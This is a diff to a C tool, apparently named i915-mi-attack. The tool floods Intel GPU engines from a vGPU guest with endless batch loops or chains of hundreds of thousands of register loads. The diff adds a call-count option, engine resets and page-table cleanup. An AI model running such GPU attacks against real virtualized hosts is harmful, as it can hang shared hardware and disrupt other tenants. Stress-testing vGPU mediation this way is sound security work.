@@ -10,11 +10,14 @@
  *                                   engine named (rcs, vcs, vecs), until SIGINT or SIGTERM; then
  *                                   its CPU writes MI_BATCH_BUFFER_END over the loop and it
  *                                   waits for the engines to complete
- *   i915-mi-attack lri-chain ENGINE one element whose batch calls 1024 second-level batches of
- *                                   three register loads of 128 registers each (393,216 loads),
+ *   i915-mi-attack lri-chain ENGINE [CALLS]
+ *                                   one element whose batch calls CALLS (1..1024, default 1024)
+ *                                   second-level batches of three register loads of 128
+ *                                   registers each (384 loads a call: 393,216 for 1024),
  *                                   submitted again as soon as it completes, until a signal
  *
- *   i915-mi-attack: <mode> started on <engines>
+ *   i915-mi-attack: loop started on <engines>
+ *   i915-mi-attack: lri-chain of <n> calls (<n> register loads) started on <engine>
  *   i915-mi-attack: t <s> submitted <n> completed <n>       every second
  *   i915-mi-attack: ended: <engine> completed|not completed ...
  *
@@ -25,6 +28,7 @@
 #include <fcntl.h>
 #include <signal.h>
 #include <stdarg.h>
+#include <stdbool.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -63,16 +67,19 @@ static unsigned pool_used;
 
 struct engine {
     const char *name;
-    uint32_t base;
+    uint32_t base, reset_domain;
     uint64_t lrca, ring, hwsp; /* graphics addresses (GGTT) */
     uint32_t *ring_va, *state_va;
     uint32_t tail;
     uint64_t submitted, completed;
 };
 
+static void ppgtt_forget(void);
+
 static int die(const char *fmt, ...)
 {
     va_list ap;
+    ppgtt_forget();
     va_start(ap, fmt);
     fputs(ME ": FAIL: ", stdout);
     vprintf(fmt, ap);
@@ -161,17 +168,59 @@ static void ppgtt_build(void)
     pt_va = pt->va;
 }
 
-static void ppgtt_announce(void)
+static bool announced;
+
+static void ppgtt_notify(uint32_t what)
 {
     wr32(VGT_PVINFO_PAGE + (uint32_t)offsetof(struct vgt_if, pdp[0].lo), (uint32_t)pml4_pa);
     wr32(VGT_PVINFO_PAGE + (uint32_t)offsetof(struct vgt_if, pdp[0].hi), (uint32_t)(pml4_pa >> 32));
-    wr32(VGT_PVINFO_PAGE + (uint32_t)offsetof(struct vgt_if, g2v_notify),
-         VGT_G2V_PPGTT_L4_PAGE_TABLE_CREATE);
+    wr32(VGT_PVINFO_PAGE + (uint32_t)offsetof(struct vgt_if, g2v_notify), what);
+}
+
+static void ppgtt_announce(void)
+{
+    ppgtt_notify(VGT_G2V_PPGTT_L4_PAGE_TABLE_CREATE);
+    announced = true;
+}
+
+/* Before the process's pages go back to the kernel, as i915 does when it frees a PPGTT: a table
+ * the vGPU still shadowed would stay write-protected and be read as a table while the kernel
+ * reuses the page for anything (each of its writes a trapped, refused table write). */
+static void ppgtt_forget(void)
+{
+    if (announced)
+        ppgtt_notify(VGT_G2V_PPGTT_L4_PAGE_TABLE_DESTROY);
+    announced = false;
+}
+
+static double now_s(void)
+{
+    struct timespec t;
+    clock_gettime(CLOCK_MONOTONIC, &t);
+    return (double)t.tv_sec + t.tv_nsec / 1e9;
+}
+
+/* i915's engine reset (gt/intel_reset.c gen8_engine_reset_prepare(), gen6_hw_domain_reset()):
+ * request it, wait until the engine is ready, pulse its GDRST domain, let the request go.  An
+ * engine a watchdog reset of an earlier run left hung works again. */
+static void engine_reset(const struct engine *e)
+{
+    double give_up = now_s() + 5;
+    wr32(GEN9_RING_RESET_CTL(e->base), GEN9_MASKED_BIT_ENABLE(GEN9_RESET_CTL_REQUEST_RESET));
+    while (!(rd32(GEN9_RING_RESET_CTL(e->base)) & GEN9_RESET_CTL_READY_TO_RESET))
+        if (now_s() > give_up)
+            die("%s: not ready to reset", e->name);
+    wr32(GEN9_GDRST, e->reset_domain);
+    while (rd32(GEN9_GDRST) & e->reset_domain)
+        if (now_s() > give_up)
+            die("%s: GDRST did not complete", e->name);
+    wr32(GEN9_RING_RESET_CTL(e->base), GEN9_MASKED_BIT_DISABLE(GEN9_RESET_CTL_REQUEST_RESET));
 }
 
 /* A context (status page + register state), a one-page ring and a status page; execlists on. */
 static void engine_init(struct engine *e)
 {
+    engine_reset(e);
     gm_page(&e->lrca);
     e->state_va = gm_page(&(uint64_t){ 0 })->va;
     e->ring_va = gm_page(&e->ring)->va;
@@ -216,13 +265,6 @@ static int done(const struct engine *e)
     return (e->state_va[GEN9_CTX_RING_HEAD] & GEN9_HEAD_ADDR) == e->tail;
 }
 
-static double now_s(void)
-{
-    struct timespec t;
-    clock_gettime(CLOCK_MONOTONIC, &t);
-    return (double)t.tv_sec + t.tv_nsec / 1e9;
-}
-
 static void on_signal(int sig)
 {
     (void)sig;
@@ -231,11 +273,11 @@ static void on_signal(int sig)
 
 static const struct {
     const char *name;
-    uint32_t base;
+    uint32_t base, reset_domain;
 } engines[] = {
-    { "rcs", GEN9_RCS_BASE },
-    { "vcs", GEN9_VCS_BASE },
-    { "vecs", GEN9_VECS_BASE },
+    { "rcs", GEN9_RCS_BASE, GEN9_GRDOM_RENDER },
+    { "vcs", GEN9_VCS_BASE, GEN9_GRDOM_MEDIA },
+    { "vecs", GEN9_VECS_BASE, GEN9_GRDOM_VECS },
 };
 
 int main(int argc, char **argv)
@@ -243,11 +285,20 @@ int main(int argc, char **argv)
     struct engine e[MAX_ENGINES];
     unsigned n = 0;
     int chain = argc >= 2 && !strcmp(argv[1], "lri-chain");
-    if (argc < 3 || (!chain && strcmp(argv[1], "loop")) || (chain && argc != 3)) {
-        fprintf(stderr, "usage: " ME " loop ENGINE... | " ME " lri-chain ENGINE  (rcs vcs vecs)\n");
+    unsigned calls = CHAIN_CALLS;
+    char *end = NULL;
+    if (chain && argc == 4) {
+        unsigned long c = strtoul(argv[3], &end, 10);
+        calls = *end || !c || c > CHAIN_CALLS ? 0 : (unsigned)c;
+    }
+    if (argc < 3 || (!chain && strcmp(argv[1], "loop")) || (chain && (argc > 4 || !calls))) {
+        fprintf(stderr,
+                "usage: " ME " loop ENGINE... | " ME
+                " lri-chain ENGINE [CALLS]  (rcs vcs vecs; CALLS 1..%u)\n",
+                CHAIN_CALLS);
         return 2;
     }
-    for (int a = 2; a < argc; a++) {
+    for (int a = 2; a < (chain ? 3 : argc); a++) {
         unsigned k = 0;
         while (k < 3 && strcmp(argv[a], engines[k].name))
             k++;
@@ -257,6 +308,7 @@ int main(int argc, char **argv)
         }
         memset(&e[n], 0, sizeof e[n]);
         e[n].name = engines[k].name;
+        e[n].reset_domain = engines[k].reset_domain;
         e[n++].base = engines[k].base;
     }
     if (access(PCI_DEV "/driver", F_OK) == 0)
@@ -306,13 +358,13 @@ int main(int argc, char **argv)
             }
         }
         leaf[k++] = GEN9_MI_BATCH_BUFFER_END;
-        for (unsigned i = 0, w = 0; i < CHAIN_CALLS; i++) {
+        for (unsigned i = 0, w = 0; i < calls; i++) {
             const uint32_t cmd[3] = { GEN9_MI_BATCH_BUFFER_START | GEN9_MI_BB_START_PPGTT |
                                           GEN9_MI_BB_START_SECOND_LEVEL,
                                       (uint32_t)va_leaf, (uint32_t)(va_leaf >> 32) };
             for (unsigned j = 0; j < 3; j++, w++)
                 pages[w / 1024u][w % 1024u] = cmd[j];
-            if (i + 1 == CHAIN_CALLS)
+            if (i + 1 == calls)
                 pages[(w) / 1024u][w % 1024u] = GEN9_MI_BATCH_BUFFER_END;
         }
     }
@@ -321,7 +373,11 @@ int main(int argc, char **argv)
         engine_init(&e[i]);
     signal(SIGINT, on_signal);
     signal(SIGTERM, on_signal);
-    printf(ME ": %s started on", chain ? "lri-chain" : "loop");
+    if (chain)
+        printf(ME ": lri-chain of %u calls (%u register loads) started on", calls,
+               calls * CHAIN_LRIS * LRI_REGS);
+    else
+        printf(ME ": loop started on");
     for (unsigned i = 0; i < n; i++)
         printf(" %s", e[i].name);
     printf("\n");
@@ -360,6 +416,9 @@ int main(int argc, char **argv)
         printf(ME ": ended: %s %s\n", e[i].name,
                done(&e[i]) ? "completed" : "not completed in 30 s");
         ok &= done(&e[i]);
+        if (!done(&e[i]))
+            engine_reset(&e[i]); /* nothing may still run through the tables */
     }
+    ppgtt_forget();
     return ok ? 0 : 1;
 }
